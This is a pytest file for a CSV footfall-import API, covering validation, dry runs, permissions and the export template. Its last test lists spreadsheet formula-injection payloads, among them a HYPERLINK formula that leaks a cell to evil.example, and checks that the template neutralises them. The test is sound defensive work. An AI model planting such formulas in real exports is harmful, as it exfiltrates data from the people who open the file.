from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from tests.factories import make_location
from tests.footfall.helpers import MONDAY, URL, listing, post, shop, upload


def audit_total(client: TestClient, headers: dict[str, str]) -> int:
    total: int = client.get(f"{URL}/audit", headers=headers).json()["total"]
    return total


def test_import_accepts_id_square_id_and_name_with_both_date_styles(
    client: TestClient, db: Session
) -> None:
    s = shop(client, db)
    text = (
        "location,date,count,hour\n"
        f"{s.soho.id},2025-06-02,120,\n"
        "SQ-SOHO,03/06/2025,130,\n"  # day first: 3 June
        "Leeds,2025-06-02,7,9\n"
        "Leeds,2025-06-02,11,10\n"
        "Leeds,04/06/2025,closed,\n"
    )
    dry = upload(client, s.owner, text, dry_run=True)
    assert dry.status_code == 200, dry.text
    report = dry.json()
    assert (report["dry_run"], report["applied"]) == (True, False)
    assert (report["created"], report["rejected"], report["total_rows"]) == (5, 0, 5)
    assert "DD/MM/YYYY" in report["date_formats"]
    assert [r["action"] for r in report["rows"]] == ["create"] * 5
    assert [r["row"] for r in report["rows"]] == [2, 3, 4, 5, 6]
    assert listing(client, s.owner) == []  # a dry run writes nothing

    applied = upload(client, s.admin, text)
    assert applied.status_code == 200, applied.text
    assert applied.json()["applied"] is True
    state = {
        (e["location_id"], e["date"], e["hour"]): (e["count"], e["closed"], e["source"])
        for e in listing(client, s.owner)
    }
    assert state == {
        (s.soho.id, "2025-06-02", None): (120, False, "import"),
        (s.soho.id, "2025-06-03", None): (130, False, "import"),
        (s.leeds.id, "2025-06-02", 9): (7, False, "import"),
        (s.leeds.id, "2025-06-02", 10): (11, False, "import"),
        (s.leeds.id, "2025-06-04", None): (None, True, "import"),
    }
    assert audit_total(client, s.owner.headers) == 5


def test_reimporting_the_same_file_changes_nothing(client: TestClient, db: Session) -> None:
    s = shop(client, db)
    text = "location,date,count\nSoho,2025-06-02,120\nLeeds,2025-06-02,80\n"
    assert upload(client, s.owner, text).status_code == 200
    before = listing(client, s.owner)
    trail = audit_total(client, s.owner.headers)

    again = upload(client, s.owner, text)
    assert again.status_code == 200, again.text
    assert (again.json()["created"], again.json()["updated"], again.json()["unchanged"]) == (
        0,
        0,
        2,
    )
    assert listing(client, s.owner) == before  # same ids, counts, authors and timestamps
    assert audit_total(client, s.owner.headers) == trail

    changed = upload(client, s.owner, "location,date,count\nSoho,2025-06-02,125\n")
    row = changed.json()["rows"][0]
    assert (row["action"], row["old_count"]) == ("update", 120)
    assert [e["count"] for e in listing(client, s.owner, location_ids=s.soho.id)] == [125]
    latest = client.get(f"{URL}/audit", headers=s.owner.headers).json()["items"][0]
    assert (latest["action"], latest["old_count"], latest["new_count"]) == ("update", 120, 125)
    assert (latest["source"], latest["changed_by"]) == ("import", s.owner.user.id)
    assert audit_total(client, s.owner.headers) == trail + 1


def test_every_rejection_reason_is_reported_per_row(client: TestClient, db: Session) -> None:
    s = shop(client, db)
    opened = client.patch(
        f"/api/v1/locations/{s.leeds.id}", json={"opened_on": "2025-06-01"}, headers=s.admin.headers
    )
    assert opened.status_code == 200
    future = (date.today() + timedelta(days=3)).isoformat()
    rows = [
        ("Soho", "2025-06-02", "10", "", "create", None),
        ("Nowhere", "2025-06-02", "10", "", "reject", "Unknown location 'Nowhere'"),
        ("Soho", "2025-13-02", "10", "", "reject", "Bad date '2025-13-02'"),
        ("Soho", "06/31/2025", "10", "", "reject", "Bad date"),
        ("Soho", "2025-06-03", "-5", "", "reject", "Count -5 is negative"),
        ("Soho", "2025-06-03", "12.5", "", "reject", "Count '12.5' is not a whole number"),
        ("Soho", "2025-06-03", "lots", "", "reject", "not a whole number"),
        ("Soho", "2025-06-02", "11", "", "reject", "Duplicate of row 2"),
        ("Soho", future, "10", "", "reject", "is in the future"),
        ("Leeds", "2025-05-31", "10", "", "reject", "before Leeds opened (2025-06-01)"),
        ("Leeds", "2025-06-02", "10", "24", "reject", "Hour '24' is out of range"),
        ("Leeds", "2025-06-02", "closed", "9", "reject", "Only a whole day can be closed"),
        ("Leeds", "2025-06-03", "4", "9", "create", None),
        ("Leeds", "2025-06-03", "40", "", "reject", "a day has either one whole-day figure"),
        ("Leeds", "2025-06-05", "", "", "skip", "No count given"),
    ]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["location", "date", "count", "hour"])
    writer.writerows(r[:4] for r in rows)

    dry = upload(client, s.owner, out.getvalue(), dry_run=True)
    assert dry.status_code == 200, dry.text
    report = dry.json()
    assert [r["action"] for r in report["rows"]] == [r[4] for r in rows]
    for got, (*_, reason) in zip(report["rows"], rows, strict=True):
        if reason is not None:
            assert reason in got["reason"], (got, reason)
    assert (report["created"], report["skipped"], report["rejected"]) == (2, 1, 12)

    applied = upload(client, s.owner, out.getvalue())
    assert applied.status_code == 422
    body = applied.json()
    assert body["detail"][0]["field"] == "file"
    assert "nothing was imported" in body["detail"][0]["msg"]
    assert body["report"]["rejected"] == 12
    assert body["report"]["applied"] is False
    assert listing(client, s.owner) == []
    assert audit_total(client, s.owner.headers) == 0


def test_a_row_with_more_values_than_the_header_is_refused_not_cut_to_fit(
    client: TestClient, db: Session
) -> None:
    """`Soho,2025-06-03,1,025` is 1,025 visitors written with a thousands separator: cutting it to
    the three columns named would store 1. Trailing empty cells (spreadsheets add them) pass."""
    s = shop(client, db)
    text = (
        "location,date,count\n"
        "Soho,2025-06-02,980\n"
        "Soho,2025-06-03,1,025\n"
        "Soho,2025-06-04,1010,,\n"
        'Soho,2025-06-05,"1,040"\n'
        'Soho,2025-06-06,"1,04"\n'
    )
    report = upload(client, s.owner, text, dry_run=True).json()
    actions = ["create", "reject", "create", "create", "reject"]
    assert [r["action"] for r in report["rows"]] == actions
    assert "has 4 values but the first line names 3 columns" in report["rows"][1]["reason"]
    assert "not a whole number" in report["rows"][4]["reason"]
    applied = upload(client, s.owner, text)
    assert applied.status_code == 422
    assert listing(client, s.owner) == []
    # Without the two bad rows, the quoted "1,040" (a formatted spreadsheet cell) is 1040.
    good = "\n".join(line for i, line in enumerate(text.splitlines()) if i not in (2, 5))
    assert upload(client, s.owner, good + "\n").status_code == 200
    counts = {e["date"]: e["count"] for e in listing(client, s.owner)}
    assert counts == {"2025-06-02": 980, "2025-06-04": 1010, "2025-06-05": 1040}


def test_one_bad_row_in_a_large_file_writes_nothing(client: TestClient, db: Session) -> None:
    s = shop(client, db)
    lines = ["location,date,count,hour"]
    for offset in range(60):
        day = (MONDAY - timedelta(days=offset)).isoformat()
        lines += [f"Soho,{day},{10 + hour},{hour}" for hour in range(24)]
    lines.insert(700, "Soho,2025-06-02,x,3")
    response = upload(client, s.owner, "\n".join(lines) + "\n", report_limit=5)
    assert response.status_code == 422
    report = response.json()["report"]
    assert (report["total_rows"], report["rejected"], report["created"]) == (1441, 1, 1440)
    rejected = [r for r in report["rows"] if r["action"] == "reject"]
    assert [r["row"] for r in rejected] == [701]
    assert report["rows_truncated"] is True
    assert len(report["rows"]) == 6
    assert listing(client, s.owner) == []


def test_managers_import_only_their_locations_and_viewers_not_at_all(
    client: TestClient, db: Session
) -> None:
    s = shop(client, db)
    text = "location,date,count\nSoho,2025-06-02,10\nLeeds,2025-06-02,20\n"
    refused = upload(client, s.manager, text)
    assert refused.status_code == 422
    leeds = refused.json()["report"]["rows"][1]
    assert leeds["action"] == "reject"
    assert leeds["reason"] == f"You do not have access to location {s.leeds.id}"
    assert listing(client, s.owner) == []
    assert upload(client, s.manager, "location,date,count\nSoho,2025-06-02,10\n").status_code == 200
    assert upload(client, s.viewer, text).status_code == 403


def test_import_rejects_hourly_rows_for_a_day_entered_whole(
    client: TestClient, db: Session
) -> None:
    s = shop(client, db)
    assert post(client, s.owner, location_id=s.soho.id, count=300).status_code == 201
    report = upload(
        client, s.owner, "location,date,count,hour\nSoho,2025-06-02,12,9\n", dry_run=True
    )
    row = report.json()["rows"][0]
    assert row["action"] == "reject"
    assert "already has a whole-day entry" in row["reason"]


def test_unreadable_files_are_refused_with_a_reason(client: TestClient, db: Session) -> None:
    s = shop(client, db)
    cases = [
        ("", "empty"),
        ("store,day,visitors\nSoho,2025-06-02,1\n", "Missing column(s) location, date, count"),
    ]
    for text, words in cases:
        response = upload(client, s.owner, text)
        assert response.status_code == 422
        assert response.json()["detail"][0]["field"] == "file"
        assert words in response.json()["detail"][0]["msg"]
    latin = client.post(
        f"{URL}/import",
        files={"file": ("f.csv", "location,date,count\nCaf\xe9,2025-06-02,1\n".encode("latin-1"))},
        headers=s.owner.headers,
    )
    assert latin.status_code == 422
    assert "UTF-8" in latin.json()["detail"][0]["msg"]


def test_old_mac_line_endings_are_lines_not_a_server_error(client: TestClient, db: Session) -> None:
    """A lone CR ends a line (Schemathesis found a bare CR mid-line answered 500)."""
    s = shop(client, db)
    for text in ("\rlocation", "location,date,count\rSoho,2025-06-02,120\r"):
        response = upload(client, s.owner, text, dry_run=True)
        assert response.status_code in (200, 422), response.text
    report = upload(client, s.owner, "location,date,count\rSoho,2025-06-02,120\r", dry_run=True)
    assert (report.json()["created"], report.json()["rejected"]) == (1, 0)


def test_ambiguous_names_ask_for_the_id(client: TestClient, db: Session) -> None:
    from tests.factories import make_location

    s = shop(client, db)
    twin = make_location(db, org_id=s.org_id, name="Leeds")
    report = upload(
        client,
        s.owner,
        f"location,date,count\nLeeds,2025-06-02,1\n{twin.id},2025-06-02,2\n",
        dry_run=True,
    ).json()
    assert [r["action"] for r in report["rows"]] == ["reject", "create"]
    assert "2 locations are named 'Leeds': use the id" in report["rows"][0]["reason"]


def test_template_lists_writable_stores_and_imports_cleanly(
    client: TestClient, db: Session
) -> None:
    s = shop(client, db)
    response = client.get(f"{URL}/template.csv", headers=s.manager.headers)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][0] == "location"
    assert "DD/MM/YYYY" in rows[0][1]
    assert [r[0] for r in rows[1:]] == ["Soho"]  # the manager's one store
    assert date.fromisoformat(rows[1][1]) < date.today() + timedelta(days=1)

    owner_template = client.get(f"{URL}/template.csv", headers=s.owner.headers).text
    filled = owner_template.splitlines()
    filled[1] = filled[1].replace(",,", ",42,", 1)
    result = upload(client, s.owner, "\n".join(filled) + "\n")
    assert result.status_code == 200, result.text
    assert (result.json()["created"], result.json()["skipped"]) == (1, 1)
    assert client.get(f"{URL}/template.csv", headers=s.viewer.headers).status_code == 403


def test_template_names_that_look_like_formulas_are_text_and_import_back(
    client: TestClient, db: Session
) -> None:
    s = shop(client, db)
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+1", "-1+1", "@SUM(1)"]
    formulas += ["\t=1+1", "\r=1+1"]
    stores = {}
    for name in formulas:
        store = make_location(db, org_id=s.org_id)
        store.name = name  # as the sync stores a Square name: the API's form would strip a tab
        stores[store.id] = name
    # A store really named '=2+2 next to one named =2+2, which the template would write as '=2+2.
    literal = make_location(db, org_id=s.org_id, name="'=2+2")
    twin = make_location(db, org_id=s.org_id, name="=2+2")
    db.commit()

    response = client.get(f"{URL}/template.csv", headers=s.owner.headers)
    rows = list(csv.reader(io.StringIO(response.text)))
    labels = [row[0] for row in rows[1:]]
    assert {"'" + name for name in formulas} <= set(labels)
    assert {"'=2+2", str(twin.id)} <= set(labels)
    assert all(not label or label[0] not in "=+-@\t\r" for label in labels)

    out = io.StringIO()  # filled in and saved by a spreadsheet: the quotes stay
    filled = csv.writer(out)
    filled.writerow(rows[0])
    for row in rows[1:]:
        filled.writerow([row[0], MONDAY.isoformat(), "42", ""])
    result = upload(client, s.owner, out.getvalue())
    assert result.status_code == 200, result.text
    assert (result.json()["created"], result.json()["rejected"]) == (len(rows) - 1, 0)
    counted = {e["location_id"] for e in listing(client, s.owner) if e["count"] == 42}
    assert set(stores) | {literal.id, twin.id} <= counted
